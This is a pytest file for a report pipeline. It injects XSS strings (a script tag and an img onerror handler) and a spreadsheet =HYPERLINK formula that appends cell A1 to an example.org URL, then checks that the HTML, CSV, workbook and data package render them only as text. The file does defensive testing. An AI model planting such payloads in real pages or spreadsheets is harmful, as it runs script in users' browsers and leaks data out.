"""A measure whose words are an attack comes out as words: on the page, in CSV, in the workbook and in the package."""

import csv
import html
import json
import re
import zipfile
from contextlib import nullcontext
from html.parser import HTMLParser
from pathlib import Path

import frictionless
import openpyxl
import polars as pl
import pytest
from conftest import copy_tables

from analysis.base import paths
from analysis.export import datapackage
from analysis.report import build
from analysis.report.charts import render
from analysis.report.data import ReportData
from analysis.tables import store

SCRIPT = "<script>alert('施策')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'
BROKEN = r"\ud800"  # half of a surrogate pair, as JSON can hold it
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
CELLS = {"subhead": f"@{SCRIPT}", "section_title": FORMULA, "ministries": [FORMULA, SCRIPT], "doubts": ["+1", "-1"]}
MEASURES = store.read("measures", paths.committed()).filter((pl.col("edition") == 2026) & (pl.col("part") == "body"))
KEY = MEASURES.sort("first_line")["measure_id"][0]


class Page(HTMLParser):
    """The elements and attributes of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text += data


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a report on the committed tables, in which the first measure of 2026 is an attack."""
    processed, out = tmp_path_factory.mktemp("processed"), tmp_path_factory.mktemp("report")
    copy_tables(processed)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("IP_PLAN_PROCESSED", str(processed))
        drawn = "<svg></svg>"
        patch.setattr(render, "drawing", lambda specs, folder: nullcontext(lambda: dict.fromkeys(specs, drawn)))
        attack(processed)
        build.build(ReportData(2026, 2019, "en"), folder=out)
    return out


def attack(processed: Path) -> None:
    """Write the words into the tables as bytes, as an altered file would hold them."""
    file = processed / "measures.jsonl"
    rows = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
    rows = [row | (CELLS if row["measure_id"] == KEY else {}) for row in rows]
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    text = {"measure_id": KEY, "text": FORMULA + SCRIPT + "BROKEN", "repaired": None, "section_title": FORMULA,
            "subhead": f"@{SCRIPT}", "years": []}  # fmt: skip
    (processed / "texts.jsonl").write_text(json.dumps(text).replace("BROKEN", BROKEN) + "\n", encoding="utf-8")


def test_the_page_shows_it_as_words(made):
    source = (made / "report.html").read_bytes().decode("utf-8")  # strictly: no half of a pair
    page = Page(source)
    assert SCRIPT in page.text
    assert FORMULA in page.text
    assert {"img", "iframe", "object"} & page.tags == set()
    assert source.count("<script>") == 1  # the page's own
    assert {name for name in page.attributes if name.startswith("on")} == set()
    assert html.escape(SCRIPT, quote=False).split("'")[0] in source
    assert CONTROL.search(source) is None


def test_csv_shows_it_as_words(made):
    assert (made / "tables/measures.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    with (made / "tables/measures.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    row = next(row for row in rows if row["measure_id"] == KEY)
    assert row["text"] == "'" + FORMULA + SCRIPT
    assert (row["section_title"], row["subhead"]) == ("'" + FORMULA, "'@" + SCRIPT)
    assert (row["ministries"], row["doubts"]) == (f"'{FORMULA}; {SCRIPT}", "'+1; -1")
    for file in (made / "tables").glob("*.csv"):
        content = file.read_bytes().decode("utf-8-sig")
        assert CONTROL.search(content) is None
        cells = [cell for row in csv.reader(content.splitlines(keepends=True)) for cell in row]
        assert [cell for cell in cells if cell[:1] in tuple("=+@＝＋－＠\t\r") or re.match(r"-(?![\d.])", cell)] == []


def test_the_workbook_shows_it_as_words(made):
    book = openpyxl.load_workbook(made / "tables/ip-plan-2026.xlsx")
    head, *rows = book["measures"].iter_rows()
    row = {name.value: cell for name, cell in zip(head, next(r for r in rows if r[0].value == KEY), strict=True)}
    assert row["text"].value == FORMULA + SCRIPT
    assert row["section_title"].value == FORMULA
    assert row["ministries"].value == f"{FORMULA}; {SCRIPT}"
    assert all(row[name].quotePrefix for name in ("text", "section_title", "subhead", "ministries", "doubts"))
    with zipfile.ZipFile(made / "tables/ip-plan-2026.xlsx") as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert not any("externalLink" in name for name in archive.namelist())
        leads = [archive.read(name) for name in archive.namelist() if "/_rels/sheet" in name]
        assert leads  # to tables of the workbook, and to no address
        assert not any(b"External" in lead or b"/hyperlink" in lead for lead in leads)
    assert len(sheets) == len(book.sheetnames)
    assert not any("<f>" in sheet or 't="e"' in sheet for sheet in sheets)  # no formula, no fault


def test_the_package_and_parquet_are_whole(made):
    validated = frictionless.validate(str(made / "tables" / datapackage.FILE))
    assert validated.valid, validated.flatten(["name", "rowNumber", "fieldName", "note"])[:3]
    frame = pl.read_parquet(made / "tables/measures.parquet").filter(measure_id=KEY)
    assert frame["ministries"].to_list() == [CELLS["ministries"]]
    assert frame["text"][0].startswith(FORMULA + SCRIPT)
